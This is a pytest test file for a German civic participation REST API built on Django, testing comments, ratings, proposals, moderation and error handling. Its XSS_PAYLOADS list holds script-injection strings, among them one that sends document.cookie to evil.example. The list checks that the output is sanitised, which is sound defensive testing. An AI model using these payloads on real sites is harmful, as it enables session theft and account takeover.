"""The participation REST API (/api/v1/participation): consultations with their phases,
comments (hidden and deleted without text), ratings, proposals, supports and reports; closed
phases answer 403 with the German reason, bad input 422, no login 401, unknown things 404 –
never 500; script and HTML payloads come back inert."""

import json
import uuid
from html.parser import HTMLParser

import pytest
from django.test import Client

from clusterwerk.masterplan.models import KeyPoint
from clusterwerk.participation import services
from clusterwerk.participation.models import (
    Comment,
    ContentReport,
    PhaseKind,
    Proposal,
    ProposalKind,
    Rating,
    Support,
)
from clusterwerk.participation.tests.moderation_support import (
    amendment_by,
    comment_on,
    consultation_in,
    profile,
    topic_area_of,
)

pytestmark = pytest.mark.django_db

BASE = "/api/v1/participation"

XSS_PAYLOADS = [
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">klick</a>',
    "[klick](javascript:alert(1))",
    '<svg onload=alert(1)><iframe src="https://evil.example"></iframe>',
    "**<b onmouseover=alert(1)>fett</b>**",
    '"><script>document.location="https://evil.example/?c="+document.cookie</script>',
]


@pytest.fixture
def consultation(cluster):
    return consultation_in(cluster, slug="masterplan-2026")


@pytest.fixture
def closed(cluster):
    return consultation_in(cluster, phase=PhaseKind.EVALUATION, slug="ausgewertet")


def logged_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def send(client, method: str, url: str, body=None):
    data = body if isinstance(body, str) else json.dumps(body if body is not None else {})
    return getattr(client, method)(url, data=data, content_type="application/json")


def assert_error(response, status: int, *fragments: str) -> dict:
    assert response.status_code == status, response.content
    assert response["Content-Type"].startswith("application/json")
    body = response.json()
    assert isinstance(body["detail"], str) and body["detail"]
    for fragment in fragments:
        assert fragment in body["detail"], body["detail"]
    return body


SAFE_TAGS = {"p", "br", "strong", "em", "code", "ul", "li", "a"}


class TagCollector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, list]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))


def assert_inert(html: str) -> None:
    """Only the tags of the safe subset, links only to http(s), no attribute of the author's."""
    collector = TagCollector()
    collector.feed(html)
    for tag, attrs in collector.tags:
        assert tag in SAFE_TAGS, html
        names = {name for name, _value in attrs}
        if tag == "a":
            assert names == {"href", "rel"}, html
            href = dict(attrs)["href"]
            assert href.startswith(("http://", "https://")), html
            assert dict(attrs)["rel"] == "nofollow ugc noopener"
        else:
            assert not names, html


def comment_body(consultation, body="Guter Punkt.", **extra):
    element = topic_area_of(consultation)
    return {"element_kind": "topic_area", "lineage": str(element.lineage), "body": body, **extra}


def rating_body(consultation, relevance=4, priority=3):
    element = topic_area_of(consultation)
    return {
        "element_kind": "topic_area",
        "lineage": str(element.lineage),
        "relevance": relevance,
        "priority": priority,
    }


# --- consultations -------------------------------------------------------------------------


def test_list_and_detail_with_phases(client, consultation, closed):
    response = client.get(f"{BASE}/consultations")
    assert response.status_code == 200
    slugs = {item["slug"] for item in response.json()}
    assert slugs == {"masterplan-2026", "ausgewertet"}
    detail = client.get(f"{BASE}/consultations/masterplan-2026").json()
    assert [phase["kind"] for phase in detail["phases"]] == [
        "information",
        "participation",
        "evaluation",
        "result",
    ]
    assert detail["current_phase"]["kind"] == "participation"
    assert set(detail["current_phase"]["allowed_actions"]) == {
        "comment",
        "rate",
        "propose",
        "support",
    }
    assert [phase["state"] for phase in detail["phases"]] == ["past", "current", "future", "future"]
    # Anonymous: every action closed, with the login hint.
    assert "melden Sie sich an" in detail["closed_reasons"]["comment"]


def test_detail_for_a_participant_and_a_closed_phase(member, consultation, closed):
    client = logged_in(member)
    assert client.get(f"{BASE}/consultations/masterplan-2026").json()["closed_reasons"] == {}
    reasons = client.get(f"{BASE}/consultations/ausgewertet").json()["closed_reasons"]
    assert "keine Kommentare" in reasons["comment"] and "Auswertung" in reasons["comment"]


def test_unknown_consultation_is_404(client):
    assert_error(client.get(f"{BASE}/consultations/gibt-es-nicht"), 404, "gibt es nicht")
    assert_error(client.get(f"{BASE}/consultations/gibt-es-nicht/comments"), 404)


# --- comments ------------------------------------------------------------------------------


def test_comment_create_reply_list_edit_delete(consultation, member, outsider):
    author = logged_in(member)
    response = send(
        author,
        "post",
        f"{BASE}/consultations/masterplan-2026/comments",
        comment_body(consultation, "Das **Ziel** passt."),
    )
    assert response.status_code == 201, response.content
    created = response.json()
    assert created["body_html"] == "<p>Das <strong>Ziel</strong> passt.</p>"
    reply = send(
        logged_in(outsider),
        "post",
        f"{BASE}/consultations/masterplan-2026/comments",
        comment_body(consultation, "Stimmt.", parent=created["id"]),
    )
    assert reply.status_code == 201 and reply.json()["parent_id"] == created["id"]
    lineage = topic_area_of(consultation).lineage
    listed = Client().get(f"{BASE}/consultations/masterplan-2026/comments", {"element": lineage})
    assert [item["id"] for item in listed.json()] == [created["id"], reply.json()["id"]]
    other = Client().get(
        f"{BASE}/consultations/masterplan-2026/comments", {"element": str(uuid.uuid4())}
    )
    assert other.json() == []
    edited = send(author, "patch", f"{BASE}/comments/{created['id']}", {"body": "Neu"})
    assert edited.status_code == 200 and edited.json()["body"] == "Neu"
    assert edited.json()["edited_at"]
    assert_error(
        send(logged_in(outsider), "patch", f"{BASE}/comments/{created['id']}", {"body": "Fremd"}),
        403,
        "Autor",
    )
    assert_error(send(logged_in(outsider), "delete", f"{BASE}/comments/{created['id']}"), 403)
    assert send(author, "delete", f"{BASE}/comments/{created['id']}").status_code == 204
    item = Client().get(f"{BASE}/consultations/masterplan-2026/comments").json()[0]
    assert item["is_deleted"] and item["body"] is None and item["body_html"] is None
    assert item["author_name"] is None


def test_hidden_comment_is_listed_without_text_but_with_reason(
    consultation, member, cluster_manager
):
    profile(member, "Metallbauerin")
    comment = comment_on(consultation, member, "Beleidigender Text")
    services.hide(moderator=cluster_manager, item=comment, reason="Beleidigung")
    response = Client().get(f"{BASE}/consultations/masterplan-2026/comments")
    (item,) = response.json()
    assert item["is_hidden"] and item["hidden_reason"] == "Beleidigung"
    assert item["body"] is None and item["body_html"] is None and item["author_name"] is None
    assert "Beleidigender Text" not in response.content.decode()


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payloads_come_back_inert(consultation, member, payload):
    client = logged_in(member)
    response = send(
        client,
        "post",
        f"{BASE}/consultations/masterplan-2026/comments",
        comment_body(consultation, payload),
    )
    assert response.status_code == 201, response.content
    html = response.json()["body_html"]
    listed = Client().get(f"{BASE}/consultations/masterplan-2026/comments").json()[0]["body_html"]
    assert listed == html
    assert_inert(html)
    assert response.json()["body"] == payload.strip()  # the source stays as typed


def test_comment_errors(client, consultation, member):
    url = f"{BASE}/consultations/masterplan-2026/comments"
    assert_error(send(client, "post", url, comment_body(consultation)), 401, "Anmeldung")
    participant = logged_in(member)
    body = assert_error(send(participant, "post", url, comment_body(consultation, "   ")), 422)
    assert any(error["loc"] == ["body"] for error in body["errors"])
    assert_error(
        send(
            participant, "post", url, {**comment_body(consultation), "lineage": str(uuid.uuid4())}
        ),
        422,
        "gibt es in der Ausgabe nicht",
    )
    assert_error(
        send(participant, "post", url, {**comment_body(consultation), "lineage": "kaputt"}),
        422,
        "Ungültige Eingabe",
    )
    assert_error(
        send(participant, "post", url, {**comment_body(consultation), "element_kind": "edition"}),
        422,
    )
    assert_error(send(participant, "post", url, {**comment_body(consultation), "extra": 1}), 422)
    assert_error(
        send(participant, "post", url, comment_body(consultation, parent=999999)),
        422,
        "gibt es nicht",
    )
    assert_error(send(participant, "post", url, "{kein json"), 400, "kein gültiges JSON")
    assert_error(
        send(participant, "post", url, comment_body(consultation, "x" * 5001)), 422, "Höchstens"
    )
    assert_error(send(participant, "patch", f"{BASE}/comments/999999", {"body": "x"}), 404)
    assert_error(send(participant, "delete", f"{BASE}/comments/0"), 422)


def test_writes_need_the_csrf_token(consultation, member):
    client = Client(enforce_csrf_checks=True)
    client.force_login(member)
    response = send(
        client, "post", f"{BASE}/consultations/masterplan-2026/comments", comment_body(consultation)
    )
    assert_error(response, 403, "CSRF")


def test_posting_too_fast_is_429(consultation, member):
    client = logged_in(member)
    url = f"{BASE}/consultations/masterplan-2026/comments"
    for number in range(services.POSTING_LIMIT):
        assert (
            send(client, "post", url, comment_body(consultation, f"Beitrag {number}")).status_code
            == 201
        )
    assert_error(send(client, "post", url, comment_body(consultation, "noch einer")), 429, "warten")


# --- closed phases -------------------------------------------------------------------------


def test_closed_phase_rejects_every_contribution_with_reason(closed, member, outsider):
    proposal_author = logged_in(outsider)
    # A proposal from before (written directly: the phase is closed now).
    key_point = KeyPoint.objects.filter(edition=closed.edition).first()
    proposal = Proposal.objects.create(
        consultation=closed,
        kind=ProposalKind.NEW_TOPIC_AREA,
        element_kind="key_point",
        element_lineage=key_point.lineage,
        title="Alt",
        proposed_text="Ziel",
        author=outsider,
    )
    client = logged_in(member)
    slug = "ausgewertet"
    assert_error(
        send(client, "post", f"{BASE}/consultations/{slug}/comments", comment_body(closed)),
        403,
        "keine Kommentare",
        "Aktuelle Phase: Auswertung",
    )
    assert_error(
        send(client, "put", f"{BASE}/consultations/{slug}/ratings", rating_body(closed)),
        403,
        "keine Bewertungen",
    )
    assert_error(
        send(
            client,
            "post",
            f"{BASE}/consultations/{slug}/proposals",
            {
                "kind": "new_topic_area",
                "lineage": str(key_point.lineage),
                "title": "Neu",
                "text": "Ziel",
            },
        ),
        403,
        "keine Vorschläge",
    )
    assert_error(
        send(client, "post", f"{BASE}/proposals/{proposal.pk}/support"), 403, "nicht unterstützt"
    )
    assert_error(send(client, "delete", f"{BASE}/proposals/{proposal.pk}/support"), 403)
    assert not Comment.objects.exists() and not Rating.objects.exists()
    assert not Support.objects.exists() and Proposal.objects.count() == 1
    assert proposal_author  # the author exists, nothing else happened


def test_audience_and_blocks_are_403(cluster, member, outsider, cluster_manager):
    invited_only = consultation_in(cluster, audience="invited", slug="nur-eingeladene")
    assert_error(
        send(
            logged_in(outsider),
            "post",
            f"{BASE}/consultations/nur-eingeladene/comments",
            comment_body(invited_only),
        ),
        403,
        "nicht teilnehmen",
    )
    services.block_user(
        moderator=cluster_manager, consultation=invited_only, user=member, reason="Spam"
    )
    open_one = consultation_in(cluster, slug="offen")
    assert_error(
        send(
            logged_in(member), "put", f"{BASE}/consultations/offen/ratings", rating_body(open_one)
        ),
        403,
        "gesperrt",
    )


# --- ratings -------------------------------------------------------------------------------


def test_rating_twice_keeps_one_rating(consultation, member):
    client = logged_in(member)
    url = f"{BASE}/consultations/masterplan-2026/ratings"
    first = send(client, "put", url, rating_body(consultation, 2, 1))
    assert first.status_code == 200, first.content
    second = send(client, "put", url, rating_body(consultation, 5, 3))
    assert second.json()["relevance"] == 5 and second.json()["priority"] == 3
    rating = Rating.objects.get()
    assert (rating.relevance, rating.priority) == (5, 3)


@pytest.mark.parametrize(
    ("relevance", "priority", "field"),
    [(0, 2, "relevance"), (6, 2, "relevance"), (3, 4, "priority"), (3, 0, "priority")],
)
def test_rating_out_of_range_is_422(consultation, member, relevance, priority, field):
    response = send(
        logged_in(member),
        "put",
        f"{BASE}/consultations/masterplan-2026/ratings",
        rating_body(consultation, relevance, priority),
    )
    body = assert_error(response, 422, "Bitte eine Zahl von")  # core.validation message
    assert body["errors"][0]["loc"] == [field]
    assert not Rating.objects.exists()


def test_rating_type_errors_and_login(client, consultation, member):
    url = f"{BASE}/consultations/masterplan-2026/ratings"
    assert_error(send(client, "put", url, rating_body(consultation)), 401)
    assert_error(
        send(logged_in(member), "put", url, {**rating_body(consultation), "relevance": "sehr"}),
        422,
        "ganze Zahl",
    )
    assert_error(
        send(
            logged_in(member), "put", f"{BASE}/consultations/nix/ratings", rating_body(consultation)
        ),
        404,
    )


# --- proposals and supports ----------------------------------------------------------------


def test_proposals_amendment_topic_area_list_and_support(consultation, member, outsider):
    author = logged_in(member)
    url = f"{BASE}/consultations/masterplan-2026/proposals"
    topic_area = topic_area_of(consultation)
    response = send(
        author,
        "post",
        url,
        {
            "kind": "amendment",
            "element_kind": "topic_area",
            "lineage": str(topic_area.lineage),
            "field": "goal",
            "text": "Ein neues Ziel.",
            "rationale": "Klarer.",
        },
    )
    assert response.status_code == 201, response.content
    amendment = response.json()
    assert (
        amendment["original_text"] == topic_area.goal
        and amendment["proposed_text"] == "Ein neues Ziel."
    )
    key_point = topic_area.key_point
    response = send(
        author,
        "post",
        url,
        {
            "kind": "new_topic_area",
            "lineage": str(key_point.lineage),
            "title": "Wasserstoff",
            "text": "Wasserstofftechnik in der Metallverarbeitung.",
        },
    )
    assert response.status_code == 201, response.content
    assert response.json()["kind"] == "new_topic_area"
    listed = Client().get(url).json()
    assert [item["id"] for item in listed] == [response.json()["id"], amendment["id"]]
    only = Client().get(url, {"element": str(topic_area.lineage)}).json()
    assert [item["id"] for item in only] == [amendment["id"]]

    supporter = logged_in(outsider)
    supported = send(supporter, "post", f"{BASE}/proposals/{amendment['id']}/support")
    assert supported.status_code == 200 and supported.json() == {
        "proposal_id": amendment["id"],
        "supported": True,
        "support_count": 1,
    }
    again = send(supporter, "post", f"{BASE}/proposals/{amendment['id']}/support")
    assert again.json()["support_count"] == 1
    mine = supporter.get(url, {"element": str(topic_area.lineage)}).json()[0]
    assert mine["supported_by_me"] and mine["support_count"] == 1
    assert_error(send(author, "post", f"{BASE}/proposals/{amendment['id']}/support"), 422, "Eigene")
    withdrawn = send(supporter, "delete", f"{BASE}/proposals/{amendment['id']}/support")
    assert withdrawn.json()["supported"] is False and withdrawn.json()["support_count"] == 0
    assert_error(send(supporter, "post", f"{BASE}/proposals/999999/support"), 404)
    assert_error(send(Client(), "post", f"{BASE}/proposals/{amendment['id']}/support"), 401)


def test_proposal_errors(consultation, member):
    client = logged_in(member)
    url = f"{BASE}/consultations/masterplan-2026/proposals"
    topic_area = topic_area_of(consultation)
    base = {"kind": "amendment", "element_kind": "topic_area", "lineage": str(topic_area.lineage)}
    assert_error(
        send(client, "post", url, {**base, "field": "number", "text": "x"}), 422, "Textfeld"
    )
    assert_error(
        send(client, "post", url, {**base, "field": "goal", "text": topic_area.goal}),
        422,
        "gleicht",
    )
    assert_error(
        send(client, "post", url, {**base, "kind": "new_topic_area", "text": "x", "title": "y"}),
        422,
        "Eckpunkt",
    )
    assert_error(send(client, "post", url, {**base, "kind": "anderes", "text": "x"}), 422)
    assert_error(
        send(
            client,
            "post",
            url,
            {
                "kind": "new_topic_area",
                "lineage": str(topic_area.key_point.lineage),
                "title": "",
                "text": "x",
            },
        ),
        422,
        "erforderlich",
    )


def test_hidden_proposal_is_listed_without_texts(consultation, member, cluster_manager):
    proposal = amendment_by(consultation, member, "Geheimer Werbetext")
    services.hide(moderator=cluster_manager, item=proposal, reason="Werbung")
    response = Client().get(f"{BASE}/consultations/masterplan-2026/proposals")
    (item,) = response.json()
    assert item["is_hidden"] and item["hidden_reason"] == "Werbung"
    assert item["proposed_text"] is None and item["author_name"] is None
    assert "Geheimer Werbetext" not in response.content.decode()


# --- reports -------------------------------------------------------------------------------


def test_report_comment_and_proposal(consultation, member, outsider):
    comment = comment_on(consultation, member)
    proposal = amendment_by(consultation, member)
    reporter = logged_in(outsider)
    response = send(reporter, "post", f"{BASE}/comments/{comment.pk}/report", {"reason": "Spam"})
    assert response.status_code == 201, response.content
    assert response.json()["target"] == "comment" and response.json()["status"] == "open"
    assert_error(
        send(reporter, "post", f"{BASE}/comments/{comment.pk}/report", {"reason": "Spam"}),
        422,
        "bereits gemeldet",
    )
    response = send(
        reporter, "post", f"{BASE}/proposals/{proposal.pk}/report", {"reason": "Werbung"}
    )
    assert response.status_code == 201 and response.json()["target_id"] == proposal.pk
    assert ContentReport.objects.count() == 2
    assert_error(
        send(reporter, "post", f"{BASE}/proposals/{proposal.pk}/report", {"reason": " "}),
        422,
        "Grund",
    )
    assert_error(send(reporter, "post", f"{BASE}/comments/{comment.pk}/report", {}), 422)
    assert_error(
        send(Client(), "post", f"{BASE}/comments/{comment.pk}/report", {"reason": "x"}), 401
    )
    assert_error(send(reporter, "post", f"{BASE}/comments/999999/report", {"reason": "x"}), 404)
    assert_error(send(reporter, "post", f"{BASE}/proposals/999999/report", {"reason": "x"}), 404)


def test_api_is_documented(client):
    schema = client.get("/api/openapi.json").json()
    paths = [path for path in schema["paths"] if path.startswith(BASE)]
    assert len(paths) == 10


def test_lists_do_not_query_per_item(consultation, member, outsider, django_assert_max_num_queries):
    profile(member, "Metallbauerin")
    for number in range(3):
        comment_on(consultation, member, f"Beitrag {number}")
        amendment_by(consultation, member, f"Neues Ziel {number}")
    client = Client()
    with django_assert_max_num_queries(6):
        assert len(client.get(f"{BASE}/consultations/masterplan-2026/comments").json()) == 3
    # 7: the comment counts are one grouped query of their own (not a subquery per row).
    with django_assert_max_num_queries(7):
        assert len(client.get(f"{BASE}/consultations/masterplan-2026/proposals").json()) == 3
    with django_assert_max_num_queries(4):
        assert len(client.get(f"{BASE}/consultations").json()) == 1


def test_bad_element_filter_is_422(client, consultation):
    assert_error(
        client.get(f"{BASE}/consultations/masterplan-2026/comments", {"element": "kaputt"}),
        422,
        "Ungültige Eingabe",
    )
